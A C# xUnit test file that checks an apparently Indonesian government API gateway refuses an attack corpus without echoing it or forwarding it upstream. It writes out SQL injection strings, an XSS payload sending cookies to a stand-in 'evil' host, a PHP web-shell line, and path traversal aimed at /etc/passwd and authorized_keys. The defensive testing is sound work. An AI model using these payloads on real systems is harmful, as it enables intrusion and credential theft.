using System.Net;
using System.Text;
using SpbeConnector.Policies.Tests.FileControls;

namespace SpbeConnector.Policies.Tests.SchemaValidation;

/// <summary>
/// The attack corpus of the validation policies (Pasal 59 ayat (7) huruf b, g, h; ayat (15) huruf d-e; Pasal 60
/// ayat (5) huruf c, e): every request is refused with problem details that echo none of it, and the upstream stub
/// proves it received none of them. A valid control request passes byte for byte.
/// </summary>
public sealed class AttackCorpusTests(ScannedPerizinanApiFixture api) : IClassFixture<ScannedPerizinanApiFixture>, IAsyncLifetime
{
    private const string P = PerizinanApiFixture.Prefix;
    private const string Id = "5b0e7a52-3f4e-4f6a-9a51-0c8c1d2e3f40";

    public Task InitializeAsync() => api.ResetAsync();

    public Task DisposeAsync() => Task.CompletedTask;

    /// <summary>One attack: how to build the request, the status it must get, and strings the answer must not echo.</summary>
    public sealed record Attack(string Name, Func<HttpRequestMessage> Request, HttpStatusCode Status, params string[] NeverEchoed)
    {
        /// <summary>Kestrel itself refuses the request line (with a bare 400) before any policy runs.</summary>
        public bool RefusedByServer { get; init; }

        public override string ToString() => Name;
    }

    private static HttpRequestMessage Get(string path) => new(HttpMethod.Get, P + path) { Headers = { { "X-Kode-Wilayah", "32.75" } } };

    private static HttpRequestMessage Post(string path, byte[] body, string? contentType = "application/json", bool chunked = false)
    {
        var content = chunked ? (HttpContent)new StreamContent(new MemoryStream(body)) : new ByteArrayContent(body);
        if (contentType is not null)
            content.Headers.TryAddWithoutValidation("Content-Type", contentType);
        var request = new HttpRequestMessage(HttpMethod.Post, P + path) { Content = content };
        if (chunked)
            request.Headers.TransferEncodingChunked = true;
        return request;
    }

    private static HttpRequestMessage PostJson(string json, string? contentType = "application/json") => Post("/permohonan", Encoding.UTF8.GetBytes(json), contentType);

    /// <summary>The valid body with raw bytes spliced in for the value of <c>catatan</c>.</summary>
    private static byte[] WithRawCatatan(byte[] raw)
    {
        var parts = SamplePermohonan.Valid.Split("\"catatan\": null");
        return [.. Encoding.UTF8.GetBytes(parts[0] + "\"catatan\": "), .. raw, .. Encoding.UTF8.GetBytes(parts[1])];
    }

    private static readonly string HundredThousandLevels = new string('[', 100_000) + new string(']', 100_000);

    public static TheoryData<Attack> Corpus => new()
    {
        // Injection in constrained fields
        new Attack("SQL injection in a path parameter", () => Get("/penduduk/3275'%20OR%20'1'%3D'1'--"), HttpStatusCode.BadRequest, "OR '1'"),
        new Attack("SQL injection in a query enumeration", () => Get("/permohonan?status=DIAJUKAN'%20UNION%20SELECT%20password%20FROM%20users--"), HttpStatusCode.BadRequest, "UNION SELECT"),
        new Attack("SQL injection in a body field", () => PostJson(SamplePermohonan.With("pemohon.nama", "\"x'); DROP TABLE penduduk;--\"")), HttpStatusCode.BadRequest, "DROP TABLE"),
        new Attack("SQL injection in a nested enumeration", () => PostJson(SamplePermohonan.With("pemohon.alamat.kecamatan", "\"Bekasi Barat' OR 1=1--\"")), HttpStatusCode.BadRequest, "OR 1=1"),
        new Attack("Script in a body field", () => PostJson(SamplePermohonan.With("pemohon.nama", "\"<script>fetch('//evil/'+document.cookie)</script>\"")), HttpStatusCode.BadRequest, "<script", "evil"),
        new Attack("Script in an email field", () => PostJson(SamplePermohonan.With("pemohon.email", "\"\\\"><img src=x onerror=alert(1)>@example.go.id\"")), HttpStatusCode.BadRequest, "onerror"),
        new Attack("Script in a query array item", () => Get("/permohonan?kecamatan=%3Csvg%20onload%3Dalert(1)%3E"), HttpStatusCode.BadRequest, "onload"),
        new Attack("NUL byte in a path parameter", () => Get("/penduduk/3275010101900001%00.json"), HttpStatusCode.BadRequest) { RefusedByServer = true },
        new Attack("NUL byte in a query parameter", () => Get("/permohonan?sejak=2024-01-01%00"), HttpStatusCode.BadRequest),
        new Attack("Newline after a valid NIK", () => Get("/penduduk/3275010101900001%0A"), HttpStatusCode.BadRequest),
        // Size and shape
        new Attack("Oversized body with its length declared", () => PostJson(SamplePermohonan.With("catatan", "\"" + new string('a', 2 * 1024 * 1024) + "\"")), HttpStatusCode.RequestEntityTooLarge, "aaaaaaaa"),
        new Attack("Oversized chunked body", () => Post("/permohonan", Encoding.UTF8.GetBytes(SamplePermohonan.With("catatan", "\"" + new string('a', 2 * 1024 * 1024) + "\"")), chunked: true), HttpStatusCode.RequestEntityTooLarge, "aaaaaaaa"),
        new Attack("100,000 levels of nesting in a field", () => PostJson(SamplePermohonan.With("catatan", "null").Replace("\"catatan\":null", "\"catatan\":" + HundredThousandLevels)), HttpStatusCode.BadRequest),
        new Attack("100,000 levels of nesting as the body", () => PostJson(HundredThousandLevels), HttpStatusCode.BadRequest),
        new Attack("A number beyond double precision", () => PostJson(SamplePermohonan.With("bangunan.luasLantai", "1e400")), HttpStatusCode.BadRequest),
        new Attack("A thousand-digit integer", () => PostJson(SamplePermohonan.With("bangunan.jumlahLantai", new string('9', 1000))), HttpStatusCode.BadRequest, "99999999"),
        new Attack("An integer beyond 64 bits", () => PostJson(SamplePermohonan.With("bangunan.jumlahLantai", "18446744073709551617")), HttpStatusCode.BadRequest, "18446744073709551617"),
        new Attack("A thousand unknown query parameters", () => Get("/permohonan?" + string.Join("&", Enumerable.Range(0, 1000).Select(i => $"p{i}=1"))), HttpStatusCode.BadRequest, "p999"),
        // Parser confusion
        new Attack("Duplicate keys (the last would win downstream)", () => PostJson(SamplePermohonan.Valid.TrimEnd().TrimEnd('}') + ",\"pemohon\":{\"nik\":\"0000000000000000\"}}"), HttpStatusCode.BadRequest, "0000000000000000"),
        new Attack("Duplicate keys written with escapes", () => PostJson(SamplePermohonan.Valid.TrimEnd().TrimEnd('}') + ",\"\\u0063atatan\":\"x\"}"), HttpStatusCode.BadRequest),
        new Attack("A __proto__ key", () => PostJson(SamplePermohonan.With("pemohon.alamat.__proto__", "{\"isAdmin\":true}")), HttpStatusCode.BadRequest, "isAdmin"),
        new Attack("A __proto__ key written with escapes", () => PostJson(SamplePermohonan.Valid.Replace("\"catatan\"", "\"\\u005f_proto__\":{\"isAdmin\":true},\"catatan\"")), HttpStatusCode.BadRequest, "isAdmin"),
        new Attack("Invalid UTF-8 in a string", () => Post("/permohonan", WithRawCatatan([(byte)'"', 0xC3, 0x28, 0xFF, (byte)'"'])), HttpStatusCode.BadRequest),
        new Attack("Overlong UTF-8 encoding of '/'", () => Post("/permohonan", WithRawCatatan([(byte)'"', 0xC0, 0xAF, (byte)'"'])), HttpStatusCode.BadRequest),
        new Attack("Unpaired surrogate escape", () => PostJson(SamplePermohonan.Valid.Replace("\"Siti Rahayu\"", "\"Siti \\ud800 Rahayu\"")), HttpStatusCode.BadRequest),
        new Attack("JSON with comments", () => PostJson("/* x */" + SamplePermohonan.Valid), HttpStatusCode.BadRequest),
        new Attack("Two JSON documents in one body", () => PostJson(SamplePermohonan.Valid + SamplePermohonan.Valid), HttpStatusCode.BadRequest),
        // Content-type confusion
        new Attack("JSON sent as text/plain", () => PostJson(SamplePermohonan.Valid, "text/plain"), HttpStatusCode.UnsupportedMediaType),
        new Attack("JSON without a Content-Type", () => PostJson(SamplePermohonan.Valid, null), HttpStatusCode.UnsupportedMediaType),
        new Attack("JSON declared as UTF-16", () => PostJson(SamplePermohonan.Valid, "application/json; charset=utf-16"), HttpStatusCode.UnsupportedMediaType),
        new Attack("A form body declared as JSON", () => PostJson("pemohon=x&bangunan=y", "application/json"), HttpStatusCode.BadRequest),
        new Attack("A multipart body declared as JSON", () => PostJson("--b\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n1\r\n--b--\r\n"), HttpStatusCode.BadRequest),
        new Attack("JSON to the PDF upload", () => new HttpRequestMessage(HttpMethod.Put, $"{P}/permohonan/{Id}/dokumen") { Content = new StringContent("{}", Encoding.UTF8, "application/json") }, HttpStatusCode.UnsupportedMediaType),
        new Attack("A body on an operation that takes none", () => new HttpRequestMessage(HttpMethod.Delete, $"{P}/permohonan/{Id}") { Content = new StringContent("{}", Encoding.UTF8, "application/json") }, HttpStatusCode.BadRequest),
        // Undocumented operations
        new Attack("PATCH, which the document does not define", () => new HttpRequestMessage(HttpMethod.Patch, P + "/permohonan") { Content = new StringContent("{}", Encoding.UTF8, "application/json") }, HttpStatusCode.MethodNotAllowed),
        new Attack("TRACE", () => new HttpRequestMessage(HttpMethod.Trace, P + "/permohonan"), HttpStatusCode.MethodNotAllowed),
        new Attack("DELETE on the collection", () => new HttpRequestMessage(HttpMethod.Delete, P + "/permohonan"), HttpStatusCode.MethodNotAllowed),
        new Attack("An undocumented path", () => Get("/admin/export"), HttpStatusCode.NotFound),
        // Path traversal
        new Attack("Traversal with encoded slashes", () => Get("/penduduk/..%2F..%2F..%2Fetc%2Fpasswd"), HttpStatusCode.BadRequest, "passwd"),
        new Attack("Traversal with encoded backslashes", () => Get("/penduduk/..%5C..%5Cwindows%5Cwin.ini"), HttpStatusCode.BadRequest, "win.ini"),
        new Attack("Traversal with double encoding", () => Get("/penduduk/%252e%252e%252f%252e%252e%252fetc"), HttpStatusCode.BadRequest),
        // Kestrel decodes and removes dot segments before routing: a path climbing out of the API's prefix lands on no API.
        new Attack("Traversal with encoded dot segments out of the API", () => Get("/permohonan/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"), HttpStatusCode.NotFound, "passwd"),
        new Attack("Traversal as a whole path parameter", () => Get("/permohonan/..%2F..%2Fpenduduk"), HttpStatusCode.BadRequest),
        // Files
        new Attack("The EICAR test virus in an uploaded PDF", () => Uploads.Post($"{P}/permohonan/{Id}/lampiran", Uploads.Lampiran("application/pdf", Uploads.EicarInPdf)), HttpStatusCode.UnprocessableEntity, "EICAR"),
        new Attack("The EICAR test virus as a PDF body", () => new HttpRequestMessage(HttpMethod.Put, $"{P}/permohonan/{Id}/dokumen") { Content = new ByteArrayContent(Uploads.EicarInPdf) { Headers = { { "Content-Type", "application/pdf" } } } }, HttpStatusCode.UnprocessableEntity, "EICAR"),
        new Attack("A script declared as a PNG", () => Uploads.Post($"{P}/permohonan/{Id}/lampiran", Uploads.Lampiran("image/png", "<?php system($_GET['c']); ?>"u8.ToArray(), "foto.png")), HttpStatusCode.BadRequest, "system("),
        new Attack("An executable under a document's type", () => Uploads.Post($"{P}/permohonan/{Id}/lampiran", Uploads.Lampiran("application/x-msdownload", "MZ\x90\0"u8.ToArray(), "surat.exe")), HttpStatusCode.UnsupportedMediaType),
        new Attack("Path traversal in a file name", () => Uploads.Post($"{P}/permohonan/{Id}/lampiran", Uploads.Lampiran("application/pdf", Uploads.Pdf, "..%2F..%2F.ssh/authorized_keys")), HttpStatusCode.BadRequest, "authorized_keys"),
    };

    [Theory]
    [MemberData(nameof(Corpus))]
    public async Task Every_attack_is_refused_and_never_reaches_the_upstream(Attack attack)
    {
        using var request = attack.Request();

        using var response = await api.Client.SendAsync(request);

        if (attack.RefusedByServer)
            Assert.Equal(attack.Status, response.StatusCode);
        else
            await response.AssertProblemAsync(attack.Status, attack.NeverEchoed);
        Assert.Equal(0, api.Upstream.Count);
    }

    [Fact]
    public async Task Hostile_nesting_is_refused_at_the_first_broken_limit_without_parsing_the_rest()
    {
        var body = Encoding.UTF8.GetBytes(HundredThousandLevels);
        var scan = System.Diagnostics.Stopwatch.StartNew();
        for (var i = 0; i < 1000; i++)
            Assert.NotNull(SpbeConnector.Policies.SchemaValidation.JsonBodyScanner.Scan(body, Registry.Domain.ApiValidationSettings.Default, "/body"));
        scan.Stop();

        // A thousand refusals of a 200 KB hostile body take milliseconds: the scan stops at level 33.
        Assert.True(scan.ElapsedMilliseconds < 2000, $"1000 scans took {scan.ElapsedMilliseconds} ms");
    }

    [Fact]
    public async Task The_control_request_passes_byte_for_byte()
    {
        var body = Encoding.UTF8.GetBytes(SamplePermohonan.Valid);

        using var response = await api.Client.SendAsync(Post("/permohonan", body));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(body, Assert.Single(api.Upstream.Received).Body);
    }
}
